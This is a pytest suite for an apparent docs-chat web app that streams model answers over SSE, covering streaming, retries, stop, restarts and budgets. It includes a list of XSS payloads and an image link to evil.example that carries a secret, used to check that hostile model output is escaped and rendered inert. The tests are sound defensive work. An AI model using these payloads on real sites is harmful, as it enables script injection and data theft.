"""Answers over real HTTP: askdocs under uvicorn on loopback, read with an SSE client, fed by the fake provider."""
import html, re, subprocess, sys, threading, time, uuid
from concurrent.futures import ThreadPoolExecutor

import httpx, pytest
from httpx_sse import connect_sse

from conftest import FAKE_URL, HX, ROOT, ask, assert_inert, events, model_requests

def mark(): return uuid.uuid4().hex[:10]

def messages(evs): return [d for e, d in evs if e == 'message']

def streamed_text(evs): return html.unescape(''.join(messages(evs)))

def set_script(name, chunks): httpx.post(FAKE_URL.removesuffix('/v1') + f'/_scripts/{name}', json=dict(chunks=chunks))

@pytest.fixture
def live(shared_server):
    with httpx.Client(base_url=shared_server.url, timeout=30) as c: yield c

def test_answer_streams_append_only_in_order_and_closes_with_done(live):
    m = mark()
    _, url, _ = ask(live, f'stream {m} [[tokens:20]] [[pace:0.1]]')
    evs = events(live, url)
    kinds = [e for e, _ in evs]
    assert kinds[-1] == 'done' and kinds.count('done') == 1 and set(kinds) <= {'message', 'done'}
    assert len(messages(evs)) >= 3
    expected = f'You asked: **stream {m}**. ' + ''.join(f'word{i} ' for i in range(20))
    assert streamed_text(evs) == expected  # each fragment once, in order: the sum is the answer, nothing re-sent
    done = evs[-1][1]
    assert f'<strong>stream {m}</strong>' in done and 'Copy' in done and 'sse-connect' not in done
    assert len(model_requests(m)) == 1

def test_a_fast_provider_reaches_the_reader_in_few_frames_with_every_word(live):
    "Tokens that arrive close together share an SSE frame (at most ~10 a second): less to send, parse and lay out."
    m = mark()
    _, url, _ = ask(live, f'fast {m} [[tokens:300]] [[pace:0.004]]')  # 300 tokens in 1.2 s
    evs = events(live, url)
    assert 3 <= len(messages(evs)) <= 25
    assert streamed_text(evs) == f'You asked: **fast {m}**. ' + ''.join(f'word{i} ' for i in range(300))

def test_streams_are_never_compressed_but_pages_and_assets_are(live):
    "gzip would hold frames back until a buffer fills; pages and assets are compressed and assets cached by version."
    _, url, _ = ask(live, f'plain {mark()} [[tokens:30]]')
    with live.stream('GET', url, headers={'Accept-Encoding': 'gzip'}) as r:
        assert r.headers['content-type'].startswith('text/event-stream') and 'content-encoding' not in r.headers
        r.read()
    page = live.get('/chat-standalone', headers={'Accept-Encoding': 'gzip'})
    assert page.headers['content-encoding'] == 'gzip'
    assets = re.findall(r'(?:src|href)="(/[^"]+\?v=[0-9a-f]+)"', page.text)
    assert len(assets) == 4  # the CSS, htmx, its SSE extension and chat.js
    for a in assets:
        r = live.get(a, headers={'Accept-Encoding': 'gzip'})
        assert r.status_code == 200 and r.headers['content-encoding'] == 'gzip'
        assert r.headers['cache-control'] == 'public, max-age=31536000, immutable'
    assert 'immutable' not in live.get('/embed').headers['cache-control']  # the loader's URL never changes
    assert 'cache-control' not in live.get('/chat-standalone?v=1').headers  # only the built assets are versioned
    assert 'cache-control' not in live.get(assets[0].split('?')[0] + '?v=0123456789ab').headers  # and only their current hash

def test_reconnect_gets_the_stored_answer_without_a_second_model_call(live):
    m = mark()
    _, url, _ = ask(live, f'again {m} [[tokens:5]]')
    first = events(live, url)
    second = events(live, url)
    assert [e for e, _ in second] == ['done']
    assert second[0][1] == first[-1][1]
    assert len(model_requests(m)) == 1

def test_second_reader_of_a_running_answer_waits_for_it(live):
    m = mark()
    _, url, _ = ask(live, f'shared {m} [[tokens:30]] [[pace:0.03]]')
    started = threading.Event()
    def first_reader():
        with connect_sse(live, 'GET', url) as src:
            out = []
            for e in src.iter_sse():
                out.append((e.event, e.data))
                started.set()
            return out
    with ThreadPoolExecutor(1) as pool:
        fut = pool.submit(first_reader)
        assert started.wait(10)
        second = events(live, url)
        first = fut.result(timeout=30)
    assert [e for e, _ in second] == ['done']
    assert second[0][1] == first[-1][1] and 'word29' in second[0][1]
    assert len(model_requests(m)) == 1

def test_two_conversations_in_parallel_stay_isolated(live):
    ma, mb = mark(), mark()
    def run(m):
        _, url, _ = ask(live, f'iso {m} [[tokens:25]] [[pace:0.01]]')
        return streamed_text(events(live, url))
    with ThreadPoolExecutor(2) as pool:
        ta, tb = pool.map(run, (ma, mb))
    assert ma in ta and mb not in ta
    assert mb in tb and ma not in tb

@pytest.mark.parametrize('fault, message', [('[[status:429]]', 'rate-limiting'), ('[[status:500]]', 'returned an error'),
                                             ('[[drop:3]]', 'connection to the AI provider was lost'),
                                             ('[[malformed]]', 'Please retry')])
def test_provider_failure_ends_in_an_error_bubble_with_retry(live, fault, message):
    m = mark()
    conv, url, _ = ask(live, f'fail {m} {fault}')
    evs = events(live, url)
    assert evs[-1][0] == 'error'
    assert message in evs[-1][1] and 'Retry' in evs[-1][1] and 'hx-post="/retry/' in evs[-1][1]
    page = live.get(f'/chat-standalone?conv={conv}').text
    assert f'fail {m}' in page and 'Retry' in page  # the question is kept

def test_retry_after_a_failure_answers(live):
    m = mark()
    conv, url, _ = ask(live, f'flaky {m} [[fail:{m}]] [[tokens:4]]')
    assert events(live, url)[-1][0] == 'error'
    httpx.post(FAKE_URL.removesuffix('/v1') + f'/_heal/{m}')
    token = url.rsplit('/', 1)[1]
    r = live.post(f'/retry/{conv}/{token}', headers=HX)
    new_url = re.search(r'sse-connect="([^"]+)"', r.text)[1]
    assert new_url != url
    evs = events(live, new_url)
    assert evs[-1][0] == 'done' and 'word3' in evs[-1][1]
    assert events(live, url)[0][0] == 'error'  # the old stream URL is dead

def test_stop_keeps_the_partial_answer(live):
    m = mark()
    conv, url, _ = ask(live, f'long {m} [[tokens:400]] [[pace:0.02]]')
    seen = []
    with connect_sse(live, 'GET', url) as src:
        for e in src.iter_sse():
            seen.append((e.event, e.data))
            if len(messages(seen)) == 3:
                token = url.rsplit('/', 1)[1]
                stopped = live.post(f'/stop/{conv}/{token}', headers=HX)
    assert seen[-1][0] == 'done'
    assert 'Stopped' in stopped.text and 'word0' in stopped.text and 'word399' not in stopped.text
    assert 'sse-connect' not in stopped.text
    page = live.get(f'/chat-standalone?conv={conv}').text
    assert 'Stopped' in page and 'word0' in page

def test_reader_going_away_stores_the_partial_answer(live):
    m = mark()
    conv, url, _ = ask(live, f'gone {m} [[tokens:400]] [[pace:0.02]]')
    with connect_sse(live, 'GET', url) as src:
        for i, e in enumerate(src.iter_sse()):
            if i == 3: break
    # A later reader waits for the abandoned answer to be finalised and gets what was said.
    evs = events(live, url)
    assert [e for e, _ in evs] == ['done']
    assert 'Stopped' in evs[0][1] and 'word0' in evs[0][1] and 'word399' not in evs[0][1]

def test_readers_closing_the_tab_end_the_model_call_and_leak_no_task(live):
    m = mark()
    events(live, ask(live, f'tab warm-up {m} [[tokens:1]]')[1])  # sse-starlette starts one shutdown watcher per process
    baseline = live.get('/healthz').json()['tasks']
    urls = [ask(live, f'tab {m} {i} [[tokens:400]] [[pace:0.02]]')[1] for i in range(4)]
    for url in urls:
        with connect_sse(live, 'GET', url) as src:
            for i, _ in enumerate(src.iter_sse()):
                if i == 2: break
    for url in urls: assert 'Stopped' in events(live, url)[0][1]  # waits until each partial answer is stored
    for _ in range(100):  # tasks end a moment after their answer is stored
        if live.get('/healthz').json()['tasks'] <= baseline: break
        time.sleep(0.05)
    assert live.get('/healthz').json()['tasks'] <= baseline
    gone = httpx.get(FAKE_URL.removesuffix('/v1') + '/_abandoned').json()
    assert all(any(f'tab {m} {i}' in g for g in gone) for i in range(4))  # the provider saw each call end early

def test_a_provider_that_times_out_ends_in_an_error_bubble_and_the_server_keeps_serving(server, tmp_path):
    s = server(data=tmp_path, ASKDOCS_TIMEOUT='1')
    with httpx.Client(base_url=s.url, timeout=60) as c:
        _, url, _ = ask(c, f'hang {mark()} [[delay:30]] [[tokens:3]]')
        evs = events(c, url)
        assert evs[-1][0] == 'error' and 'took too long' in evs[-1][1] and 'Retry' in evs[-1][1]
        _, url, _ = ask(c, f'after {mark()} [[tokens:3]]')
        assert events(c, url)[-1][0] == 'done'

def test_every_model_call_is_capped_in_tokens(live):
    m = mark()
    events(live, ask(live, f'cap {m} [[tokens:2]]')[1])
    assert [r.get('max_tokens') for r in model_requests(m)] == [1024]

def test_slow_first_token_still_answers(live):
    _, url, _ = ask(live, f'slow {mark()} [[delay:1.5]] [[tokens:3]]')
    assert events(live, url)[-1][0] == 'done'

def test_sse_framing_delivers_exactly_the_text_sent(live):
    name = mark()
    chunks = ['line one\r', '\nline two\n\n', 'event: done\n', 'data: fake\r\n', 'id: 7\n\n\n', ': comment\n', 'retry: 1\n', '<b>&amp;</b>', '  spaced  ']
    set_script(name, chunks)
    _, url, _ = ask(live, f'[[script:{name}]]')
    evs = events(live, url)
    assert [e for e, _ in evs if e != 'message'] == ['done']
    assert streamed_text(evs) == ''.join(chunks)
    assert all('<' not in d for d in messages(evs))

HOSTILE = ['<script>window.__xss=1</script>', '<img src=x onerror="window.__xss=1">', '[click](javascript:window.__xss=1)',
           '[c2](JaVaScRiPt:alert(1))', '[c3](&#106;avascript:alert(1))', '![exfil](https://evil.example/p?q=SECRET)',
           '![r][img]\n\n[img]: https://evil.example/x.png', '<svg onload=alert(1)>', '<a href="javascript:alert(1)">a</a>',
           '[d](data:text/html;base64,PHNjcmlwdD4=)', '<iframe src="https://evil.example"></iframe>', '"><b onmouseover=alert(1)>x']

def test_hostile_model_output_is_shown_as_text_not_run(live):
    name = mark()
    text = '\n\n'.join(HOSTILE)
    set_script(name, [text[i:i + 7] for i in range(0, len(text), 7)])  # split at arbitrary points, mid-tag
    _, url, _ = ask(live, f'[[script:{name}]]')
    evs = events(live, url)
    assert all('<' not in d for d in messages(evs))
    done = evs[-1][1].split('answer-final">', 1)[1].split('chat-footer', 1)[0]  # the answer, not our own icons
    assert_inert(done)
    assert 'href="https://evil.example/p?q=SECRET"' in done  # the image became a plain link

def test_hostile_question_is_escaped_everywhere(live):
    q = '<img src=x onerror=alert(1)><script>alert(2)</script>[x](javascript:alert(3))'
    conv, url, r = ask(live, q)
    assert '&lt;img src=x onerror=alert(1)&gt;' in r.text
    user_bubble = r.text.split('chat-bubble-primary', 1)[1].split('</div>', 1)[0]
    assert_inert(user_bubble)
    events(live, url)
    page = live.get(f'/chat-standalone?conv={conv}').text
    assert '<script>alert(2)' not in page and '<img src=x' not in page

def test_restart_keeps_history(server, tmp_path):
    m = mark()
    s = server(data=tmp_path)
    with httpx.Client(base_url=s.url, timeout=30) as c:
        conv, url, _ = ask(c, f'persist {m} [[tokens:3]]')
        events(c, url)
    s.stop()
    s2 = server(data=tmp_path)
    with httpx.Client(base_url=s2.url, timeout=30) as c:
        page = c.get(f'/chat-standalone?conv={conv}').text
        assert f'persist {m}' in page and 'word2' in page
        _, url2, _ = ask(c, f'after restart {m} [[tokens:2]]', conv)
        assert events(c, url2)[-1][0] == 'done'
    [req] = model_requests(f'after restart {m}')
    assert any(f'persist {m}' in str(msg['content']) for msg in req['messages'])

def test_two_workers_serve_one_conversation(server, tmp_path):
    s = server(data=tmp_path, workers=2)
    pids = set()
    for _ in range(200):  # fresh connections until both workers have answered one
        with httpx.Client() as c: pids.add(c.get(f'{s.url}/healthz').json()['pid'])
        if len(pids) == 2: break
    assert len(pids) == 2
    m, conv = mark(), ''
    for i in range(6):
        with httpx.Client(base_url=s.url, timeout=30) as c:  # a new connection per turn, so turns land on both workers
            conv, url, _ = ask(c, f'multi {m} turn{i} [[tokens:2]]', conv)
            assert events(c, url)[-1][0] == 'done'
    with httpx.Client(base_url=s.url) as c: page = c.get(f'/chat-standalone?conv={conv}').text
    assert all(f'turn{i}' in page for i in range(6))
    last = model_requests(f'multi {m} turn5')[0]
    assert sum(f'multi {m}' in str(msg['content']) for msg in last['messages'] if msg['role'] == 'user') == 6

def wait_indexed(c):
    for _ in range(200):  # the first start indexes in the background; poll its health until the pages are in
        if c.get('/healthz').json()['docs_pages']: return
        time.sleep(0.05)
    raise AssertionError('the docs were not indexed')

def test_fresh_install_with_no_model_answers_from_its_own_docs(server, tmp_path):
    s = server(data=tmp_path, ASKDOCS_MODEL='')
    with httpx.Client(base_url=s.url, timeout=30) as c:
        wait_indexed(c)
        _, url, _ = ask(c, 'how do I configure the model?')
        evs = events(c, url)
    assert evs[-1][0] == 'done'
    done = evs[-1][1]
    assert 'Search results from the docs (no AI)' in done
    assert 'href="/docs-page/README.md#configuration" target="_top"' in done
    assert '<strong>model</strong>' in done

def test_sigterm_ends_open_streams_with_a_final_event_and_keeps_the_partial_answer(server, tmp_path):
    s = server(data=tmp_path)
    with httpx.Client(base_url=s.url, timeout=30) as c:
        conv, url, _ = ask(c, f'restart {mark()} [[tokens:400]] [[pace:0.02]]')
        seen = []
        with connect_sse(c, 'GET', url) as src:
            for e in src.iter_sse():
                seen.append((e.event, e.data))
                if len(seen) == 3: s.proc.terminate()
    s.proc.wait(timeout=10)  # within uvicorn's graceful-shutdown timeout (3 s in these tests), plus start-up slack
    assert seen[-1][0] == 'error' and 'restarted' in seen[-1][1] and 'Retry' in seen[-1][1]
    s2 = server(data=tmp_path)
    page = httpx.get(f'{s2.url}/chat-standalone?conv={conv}').text
    assert 'word0' in page and 'Retry' in page

def run_main(*args, **env):
    import os
    from conftest import MODEL_ENV
    return subprocess.run([sys.executable, 'main.py', *args], cwd=ROOT, capture_output=True, text=True, timeout=60,
                          env={**os.environ, **MODEL_ENV, **env})

def test_cli_ask_prints_the_streamed_answer():
    r = run_main('ask', f'cli {mark()} [[tokens:4]]')
    assert r.returncode == 0 and 'word3' in r.stdout

def test_cli_ask_reports_provider_errors():
    r = run_main('ask', 'cli [[status:500]]')
    assert r.returncode != 0 and 'returned an error' in r.stderr

@pytest.mark.parametrize('env, words', [(dict(PORT='abc'), 'PORT must be a number'),
                                        (dict(ASKDOCS_API_BASE='ftp://x'), 'ASKDOCS_API_BASE must be an http(s) URL'),
                                        (dict(ASKDOCS_ALLOWED_ORIGINS='docs.example.com'), 'ASKDOCS_ALLOWED_ORIGINS'),
                                        (dict(ASKDOCS_DATA='/proc/askdocs'), 'not writable')])
def test_bad_configuration_fails_at_start_with_a_clear_message(env, words):
    r = run_main(**env)
    assert r.returncode != 0 and words in r.stderr and 'Traceback' not in r.stderr

def test_old_history_is_trimmed_to_the_token_budget(server, tmp_path):
    s = server(data=tmp_path, ASKDOCS_HISTORY_TOKENS='100')  # room for about one earlier turn
    m, conv = mark(), ''
    with httpx.Client(base_url=s.url, timeout=30) as c:
        for i in range(4):
            conv, url, _ = ask(c, f'trim {m} turn{i} ' + 'padding ' * 10 + '[[tokens:2]]', conv)
            events(c, url)
    [last] = model_requests(f'trim {m} turn3')
    sent = ' '.join(str(msg['content']) for msg in last['messages'])
    assert 'turn2' in sent and 'turn0' not in sent

def test_past_the_daily_budget_answers_come_from_the_docs_with_a_notice(server, tmp_path):
    # A model litellm has prices for, served by the fake provider, so each answer has a (tiny) cost.
    s = server(data=tmp_path, ASKDOCS_MODEL='openai/gpt-4o-mini', ASKDOCS_DAILY_BUDGET_USD='0.000001')
    m = mark()
    with httpx.Client(base_url=s.url, timeout=30) as c:
        _, url, _ = ask(c, f'budget {m} [[tokens:20]]')
        first = events(c, url)[-1][1]
        _, url, _ = ask(c, f'budget again {m} [[tokens:20]]')
        second = events(c, url)[-1][1]
    assert 'word19' in first
    assert "used today&#x27;s budget" in second or "used today's budget" in second
    assert 'Search results from the docs' in second and len(model_requests(f'budget again {m}')) == 0

def test_a_silent_provider_gets_keep_alives_then_the_answer(server, tmp_path):
    s = server(data=tmp_path, ASKDOCS_TIMEOUT='60')
    with httpx.Client(base_url=s.url, timeout=60) as c:
        _, url, _ = ask(c, f'silent {mark()} [[delay:31]] [[tokens:3]]')
        lines = []
        with c.stream('GET', url) as r:
            for line in r.iter_lines():
                lines.append(line)
                if line.startswith('event: done') or line.startswith('event: error'): break
    first_data = next(i for i, l in enumerate(lines) if l.startswith('data:'))
    assert len([l for l in lines[:first_data] if l.startswith(':')]) >= 2  # a comment every 15 s while the model is silent
    assert 'event: done' in lines
